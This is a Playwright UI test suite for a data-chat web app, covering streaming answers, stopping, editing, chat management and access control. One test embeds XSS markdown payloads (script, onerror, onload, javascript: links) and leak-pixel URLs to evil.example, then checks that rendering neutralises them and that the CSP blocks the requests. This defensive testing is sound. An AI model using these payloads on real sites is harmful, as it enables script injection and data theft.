"""The chat page in Chromium against the whole app: offline MCP server over HTTP, offline model, PostgreSQL."""

from __future__ import annotations

import itertools
import re
import time
import uuid
from pathlib import Path
from typing import Any

from playwright.sync_api import Page, expect
from sqlalchemy import select

from data360_chat.db.engine import Database
from data360_chat.db.models import Chat, Feedback, Message
from data360_chat.repositories.chats import create_chat
from data360_chat.repositories.messages import add_user_message, start_answer, update_message
from tests.ui.conftest import TIMEOUT, ChatApp, app_module_fixture, screenshot

chat_app = app_module_fixture(OFFLINE_MODEL_SPEED="12")

QUESTION = "How has life expectancy changed in India since 1990?"
STREAMING = ".d360-streaming"
STREAMING_TEXT = f"""() => {{
    const answer = document.querySelector("{STREAMING}");
    return answer ? (answer.querySelector(".d360-md")?.innerText ?? "") : null;
}}"""
ANSWER = ".d360-answer:not(.d360-streaming)"


def messages_of(chat_app: ChatApp, user_id: uuid.UUID) -> list[Message]:
    """All the user's messages, oldest first."""

    async def read(database: Database) -> list[Message]:
        async with database.session() as session:
            query = select(Message).join(Chat, Chat.id == Message.chat_id).where(Chat.user_id == user_id)
            return list((await session.execute(query.order_by(Message.id))).scalars())

    return chat_app.db(read)


def chats_of(chat_app: ChatApp, user_id: uuid.UUID) -> list[Chat]:
    """The user's chats."""

    async def read(database: Database) -> list[Chat]:
        async with database.session() as session:
            return list((await session.execute(select(Chat).where(Chat.user_id == user_id))).scalars())

    return chat_app.db(read)


def plain(markdown: str) -> str:
    """Markdown reduced to the words a reader sees."""
    text = re.sub(r"(?m)^\s*[-*+]\s+", "", markdown)
    text = re.sub(r"\]\([^)]*\)", "", text)
    text = re.sub(r"[*_`#>|\[\]]", "", text)
    return " ".join(text.split())


UNNAMED_CONTROLS = """() => [...document.querySelectorAll('button, a[href], input:not([type=hidden]), textarea')]
  .filter((el) => el.offsetParent !== null)
  .filter((el) => !(el.getAttribute('aria-label') || el.getAttribute('title') || el.textContent.trim()
                    || (el.labels && el.labels.length) || el.getAttribute('aria-labelledby')))
  .map((el) => el.outerHTML.slice(0, 120))"""


def ask(page: Page, text: str) -> None:
    page.get_by_label("Your question").fill(text)
    page.get_by_label("Your question").press("Enter")


def wait_for_answer(page: Page, count: int = 1) -> None:
    expect(page.locator(ANSWER)).to_have_count(count, timeout=TIMEOUT)
    expect(page.locator(STREAMING)).to_have_count(0, timeout=TIMEOUT)


def test_an_answer_streams_in_then_shows_its_chart_and_tool_steps(chat_app: ChatApp, signed_in: Any) -> None:
    user_id, page = signed_in
    screenshot(page, "empty-chat")
    expect(page.get_by_role("button", name=re.compile("life expectancy", re.I))).to_be_visible()
    ask(page, QUESTION)
    stream = page.locator(STREAMING)
    expect(stream).to_be_visible(timeout=TIMEOUT)
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    seen: list[str] = []
    while len(seen) < 400:
        text = page.evaluate(STREAMING_TEXT)  # read in one step: the streaming answer may be gone a moment later
        if text is None:
            break
        if text and (not seen or text != seen[-1]):
            seen.append(text)
            if len(seen) == 3:
                screenshot(page, "streaming")
        page.wait_for_timeout(50)
    wait_for_answer(page)
    stored = [m for m in messages_of(chat_app, user_id) if m.role == "assistant"]
    assert [m.status for m in stored] == ["complete"]
    final = plain(stored[0].content)
    growing = [text for text in seen if text.strip()]
    assert len(growing) >= 3, f"expected several intermediate states, saw {len(growing)}"
    assert all(len(a) <= len(b) for a, b in itertools.pairwise(growing)), "the text only grows"
    assert len(growing[0]) < len(final)
    answer = page.locator(ANSWER).last
    assert plain(answer.locator(".d360-md").inner_text()) == final
    expect(answer.locator(".d360-chart .main-svg").first).to_be_attached(timeout=TIMEOUT)
    expect(answer.get_by_role("link", name="Download CSV")).to_have_attribute(
        "href", re.compile(r"/api/v1/charts/\d+\.csv")
    )
    with page.expect_download() as download:
        answer.get_by_role("link", name="Download CSV").click()
    csv_text = Path(download.value.path()).read_text(encoding="utf-8")
    assert "India" in csv_text and len(csv_text.splitlines()) > 10
    answer.locator(".d360-chart-table summary").first.click()
    table = answer.locator(".d360-chart-table").first
    expect(table.locator("th")).to_have_text(["country", "year", "value"], timeout=TIMEOUT)
    more = re.search(r"and (\d+) more rows", table.inner_text())
    assert table.locator("tbody tr").count() + (int(more.group(1)) if more else 0) == len(csv_text.splitlines()) - 1
    expect(answer.locator(".d360-chart-summary")).to_contain_text("India")
    expect(answer.locator(".d360-tool")).to_have_count(2)
    screenshot(page, "answer-with-chart")
    answer.locator(".d360-tool summary").first.click()
    expect(answer.locator(".d360-tool pre").first).to_be_visible()
    expect(answer.locator(".d360-tool pre").first).to_contain_text("query")
    screenshot(page, "tool-steps-expanded")
    page.emulate_media(color_scheme="dark")
    expect(page.locator("html.dark")).to_have_count(1)
    screenshot(page, "dark-answer-with-chart")
    page.emulate_media(color_scheme="light")
    expect(page.get_by_role("status")).to_contain_text("New answer")
    assert page.evaluate(UNNAMED_CONTROLS) == []
    page.get_by_role("button", name="Good answer").click()
    page.get_by_label("Comment on this answer").fill("Clear and sourced")
    page.get_by_role("button", name="Send comment").click()
    expect(page.get_by_text("Thanks, your comment is saved.")).to_be_visible(timeout=TIMEOUT)

    async def feedback(database: Database) -> list[Feedback]:
        async with database.session() as session:
            return list((await session.execute(select(Feedback).where(Feedback.user_id == user_id))).scalars())

    expected = [(stored[0].id, 1, "Clear and sourced")]
    deadline = time.monotonic() + 10  # the toast shows on submit, before the server has stored the comment
    rows = chat_app.db(feedback)
    while [(row.message_id, row.rating, row.comment) for row in rows] != expected and time.monotonic() < deadline:
        page.wait_for_timeout(100)
        rows = chat_app.db(feedback)
    assert [(row.message_id, row.rating, row.comment) for row in rows] == expected


def test_a_reloaded_tab_follows_the_answer_to_its_end(chat_app: ChatApp, signed_in: Any) -> None:
    user_id, page = signed_in
    ask(page, QUESTION)
    expect(page.locator(f"{STREAMING} .d360-md")).not_to_be_empty(timeout=TIMEOUT)
    page.wait_for_url(re.compile(r"\?chat="), timeout=TIMEOUT)
    page.reload()
    expect(page.get_by_label("Your question")).to_be_visible(timeout=TIMEOUT)
    streaming = [m for m in messages_of(chat_app, user_id) if m.role == "assistant" and m.status == "streaming"]
    assert streaming, "the answer was still being written when the tab came back"
    expect(page.locator(STREAMING)).to_be_visible(timeout=TIMEOUT)
    wait_for_answer(page)
    stored = [m for m in messages_of(chat_app, user_id) if m.role == "assistant"]
    assert [m.status for m in stored] == ["complete"]
    assert plain(page.locator(ANSWER).last.locator(".d360-md").inner_text()) == plain(stored[0].content)


def test_stop_by_button_and_by_escape_keeps_the_partial_answer(chat_app: ChatApp, signed_in: Any) -> None:
    user_id, page = signed_in
    ask(page, QUESTION)
    expect(page.locator(f"{STREAMING} .d360-md")).not_to_be_empty(timeout=TIMEOUT)
    page.get_by_role("button", name="Stop").click()
    wait_for_answer(page)
    expect(page.locator(ANSWER).last.get_by_text("Stopped.")).to_be_visible()
    ask(page, "Access to electricity in Kenya over time")
    expect(page.locator(f"{STREAMING} .d360-md")).not_to_be_empty(timeout=TIMEOUT)
    page.keyboard.press("Escape")
    wait_for_answer(page, 2)
    stored = [m for m in messages_of(chat_app, user_id) if m.role == "assistant"]
    assert [m.status for m in stored] == ["cancelled", "cancelled"]
    assert all(m.content for m in stored)


def test_regenerate_and_edit_replace_the_last_turn(chat_app: ChatApp, signed_in: Any) -> None:
    user_id, page = signed_in
    ask(page, QUESTION)
    wait_for_answer(page)
    first = [m.id for m in messages_of(chat_app, user_id)]
    page.get_by_role("button", name="Regenerate").click()
    expect(page.locator(STREAMING)).to_be_visible(timeout=TIMEOUT)
    wait_for_answer(page)
    after = messages_of(chat_app, user_id)
    assert [m.role for m in after] == ["user", "assistant"]
    assert after[1].id not in first and after[1].status == "complete"
    page.get_by_role("button", name="Edit question").click()
    page.get_by_label("Edit your last question").fill("GDP of Kenya")
    page.get_by_role("button", name="Send again").click()
    expect(page.locator(".d360-question")).to_have_text(["GDP of Kenya"], timeout=TIMEOUT)
    wait_for_answer(page)
    edited = messages_of(chat_app, user_id)
    assert [(m.role, m.status) for m in edited] == [("user", "complete"), ("assistant", "complete")]
    assert edited[0].content == "GDP of Kenya" and "Kenya" in edited[1].content
    expect(page.locator(ANSWER)).to_have_count(1)


def test_empty_and_too_long_messages_are_refused(chat_app: ChatApp, signed_in: Any) -> None:
    user_id, page = signed_in
    page.get_by_label("Your question").press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("empty", timeout=TIMEOUT)
    too_long = "x" * 8001
    ask(page, too_long)
    expect(page.locator(".d360-length-notice")).to_have_text(
        "The message is 8,001 characters long; the limit is 8,000. Shorten it and send it again."
    )
    expect(page.get_by_label("Your question")).to_have_value(too_long)
    huge = "A question that will not fit. " * 35_000  # about 1 MB: more than the websocket carries
    ask(page, huge)
    expect(page.locator(".d360-length-notice")).to_contain_text("1,050,000 characters long")
    assert page.get_by_label("Your question").input_value() == huge, "the text stays in the composer"
    screenshot(page, "message-too-long")
    assert messages_of(chat_app, user_id) == []
    ask(page, QUESTION)  # the connection is still there: a question of the right size is answered
    wait_for_answer(page)
    expect(page.locator(".d360-length-notice")).to_be_hidden()


def seed_chats(chat_app: ChatApp, user_id: uuid.UUID, titles: list[str], content: str = "") -> list[uuid.UUID]:
    """Chats with these titles (the last one newest), each with a question and an answer of `content`."""

    async def seed(database: Database) -> list[uuid.UUID]:
        ids = []
        for title in titles:
            async with database.session() as session:
                chat = await create_chat(session, user_id, title)
                await add_user_message(session, user_id, chat.id, f"Question about {title}")
                answer = await start_answer(session, user_id, chat.id, "data360-offline/analyst")
                assert answer.id is not None
                await update_message(
                    session, user_id, answer.id, content=content or f"Answer on {title}", status="complete"
                )
                ids.append(chat.id)
        return ids

    return chat_app.db(seed)


SCROLLED_SIDEWAYS = "(nav) => [nav, ...nav.querySelectorAll('*')].filter((e) => e.scrollLeft > 0).map((e) => e.tagName)"


def test_sidebar_pages_searches_renames_and_deletes(chat_app: ChatApp, signed_in: Any) -> None:
    user_id, page = signed_in
    titles = [f"Chat number {i:02d}" for i in range(35)]
    ids = seed_chats(chat_app, user_id, titles)
    seed_chats(chat_app, user_id, ["Rainfall in Peru"], content="Precipitation in the Andes")
    page.reload()
    nav = page.get_by_role("navigation", name="Chats").first
    expect(nav.locator(".d360-chat-row").first).to_contain_text("Rainfall in Peru", timeout=TIMEOUT)
    expect(nav.locator(".d360-chat-row")).to_have_count(30)
    nav.get_by_role("button", name="Load more").click()
    expect(nav.locator(".d360-chat-row")).to_have_count(36, timeout=TIMEOUT)
    nav.get_by_label("Search chats").fill("andes")
    expect(nav.locator(".d360-chat-row")).to_have_count(1, timeout=TIMEOUT)
    expect(nav.locator(".d360-chat-row")).to_contain_text("Rainfall in Peru")
    nav.get_by_label("Search chats").fill("")
    expect(nav.locator(".d360-chat-row")).to_have_count(30, timeout=TIMEOUT)
    nav.get_by_role("button", name="Actions for Chat number 34").click()
    page.get_by_role("menuitem", name="Rename").click()
    page.get_by_label("Chat title").fill("Renamed chat")
    page.get_by_role("button", name="Save").click()
    expect(nav.get_by_text("Renamed chat")).to_be_visible(timeout=TIMEOUT)
    assert {c.id: c.title for c in chats_of(chat_app, user_id)}[ids[-1]] == "Renamed chat"
    nav.get_by_role("button", name="Actions for Renamed chat").click()
    page.get_by_role("menuitem", name="Delete").click()
    expect(page.get_by_role("alertdialog")).to_contain_text("Renamed chat")
    page.get_by_role("button", name="Cancel").click()
    expect(page.get_by_role("alertdialog")).to_have_count(0, timeout=TIMEOUT)
    expect(nav.get_by_text("Renamed chat")).to_be_visible()
    assert nav.evaluate(SCROLLED_SIDEWAYS) == []  # the focus given back to the menu button moved nothing
    nav.get_by_role("button", name="Actions for Renamed chat").click()
    page.get_by_role("menuitem", name="Delete").click()
    expect(page.get_by_role("alertdialog")).to_contain_text("Renamed chat")
    screenshot(page, "delete-chat-dialog")
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("alertdialog")).to_have_count(0, timeout=TIMEOUT)  # the open dialog hides the nav
    expect(nav.get_by_text("Renamed chat")).to_have_count(0, timeout=TIMEOUT)
    assert ids[-1] not in {c.id for c in chats_of(chat_app, user_id)}


def test_someone_elses_chat_looks_missing(chat_app: ChatApp, signed_in: Any) -> None:
    _, page = signed_in
    owner, _ = chat_app.user()
    (chat_id,) = seed_chats(chat_app, owner, ["Private plans"], content="Secret answer text")
    page.goto(f"{chat_app.app.url}/?chat={chat_id}")
    expect(page.get_by_role("alert")).to_contain_text("does not exist", timeout=TIMEOUT)
    expect(page.get_by_text("Secret answer text")).to_have_count(0)
    ask(page, "GDP of Kenya")
    wait_for_answer(page)
    assert [m.content for m in messages_of(chat_app, owner) if m.role == "user"] == ["Question about Private plans"]


XSS = """Payloads:

<script>window.__pwned = 'script'</script>

<img src="x" onerror="window.__pwned = 'img'">

<svg onload="window.__pwned = 'svg'"></svg>

<iframe src="https://evil.example/frame"></iframe>

[a link](javascript:window.__pwned='link')

![leak](https://evil.example/pixel.png?q=secret)

![leak ref][pixel]

[pixel]: https://evil.example/ref.png

| a | b |
|---|---|
| 1 | 2 |

```html
<script>alert(1)</script>
```
"""


def test_markdown_payloads_are_inert_and_load_nothing_remote(chat_app: ChatApp, signed_in: Any) -> None:
    user_id, page = signed_in
    (chat_id,) = seed_chats(chat_app, user_id, ["Payloads"], content=XSS)
    remote: list[str] = []
    page.on("request", lambda request: remote.append(request.url) if "evil.example" in request.url else None)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{chat_app.app.url}/?chat={chat_id}")
    body = page.locator(ANSWER).last.locator(".d360-md")
    expect(body.locator("table")).to_be_visible(timeout=TIMEOUT)
    body.get_by_role("link", name="a link").click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned") is None
    assert body.locator("script, iframe, svg, img").count() == 0
    assert body.get_by_role("link", name="a link").get_attribute("href") == "#"
    expect(body.locator("pre code")).to_contain_text("<script>alert(1)</script>")
    expect(body).to_contain_text("<iframe")
    assert remote == [] and dialogs == []
    csp = page.evaluate("async () => (await fetch('/')).headers.get('content-security-policy')")
    assert "img-src 'self' data: blob:" in csp
    # Even an image put on the page some other way is refused by the policy before it reaches the network.
    failures: list[str] = []
    page.on("requestfailed", lambda request: failures.append(request.failure or ""))
    page.evaluate(
        "() => { const i = new Image(); i.src = 'https://evil.example/direct.png'; document.body.append(i); }"
    )
    page.wait_for_timeout(500)
    assert failures == ["csp"]  # Chromium: blocked by the Content-Security-Policy


def test_mobile_width_uses_a_drawer_and_dark_mode_follows_the_system(chat_app: ChatApp) -> None:
    user_id, cookie = chat_app.user()
    seed_chats(chat_app, user_id, ["Forest cover in Brazil"])
    context = chat_app.context(cookie, viewport={"width": 360, "height": 740}, color_scheme="dark")
    page = context.new_page()
    page.goto(chat_app.app.url + "/")
    expect(page.get_by_label("Your question")).to_be_visible(timeout=TIMEOUT)
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    assert page.evaluate("document.documentElement.classList.contains('dark')")
    screenshot(page, "mobile-dark-empty")
    expect(page.get_by_role("navigation", name="Chats").first).to_be_hidden()
    page.get_by_role("button", name="Open chats").click()
    drawer = page.get_by_role("dialog")
    expect(drawer.get_by_text("Forest cover in Brazil")).to_be_visible(timeout=TIMEOUT)
    page.wait_for_timeout(600)  # the drawer slides in
    screenshot(page, "mobile-drawer")
    drawer.get_by_text("Forest cover in Brazil").click()
    expect(page.locator(ANSWER)).to_have_count(1, timeout=TIMEOUT)
    expect(page.get_by_role("dialog")).to_have_count(0)
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    page.get_by_role("button", name="Switch light or dark theme").first.is_visible()
    screenshot(page, "mobile-dark-chat")
    context.close()


def test_two_tabs_sending_at_once_start_one_answer(chat_app: ChatApp) -> None:
    user_id, cookie = chat_app.user()
    (chat_id,) = seed_chats(chat_app, user_id, ["Twin tabs"])
    context = chat_app.context(cookie)
    pages = [context.new_page(), context.new_page()]
    for page in pages:
        page.goto(f"{chat_app.app.url}/?chat={chat_id}")
        expect(page.locator(ANSWER)).to_have_count(1, timeout=TIMEOUT)
        page.get_by_label("Your question").fill("GDP of Kenya")
    for page in pages:  # back to back: each tab has its own state, so both sends are handled at once
        page.get_by_label("Your question").press("Enter")
    pages[0].wait_for_timeout(500)
    for page in pages:
        expect(page.locator(STREAMING)).to_have_count(0, timeout=TIMEOUT)
    refused = [page for page in pages if page.get_by_role("alert").filter(has_text="already being written").count()]
    stored = messages_of(chat_app, user_id)
    assert [m.role for m in stored] == ["user", "assistant", "user", "assistant"]
    assert len(refused) == 1
    context.close()
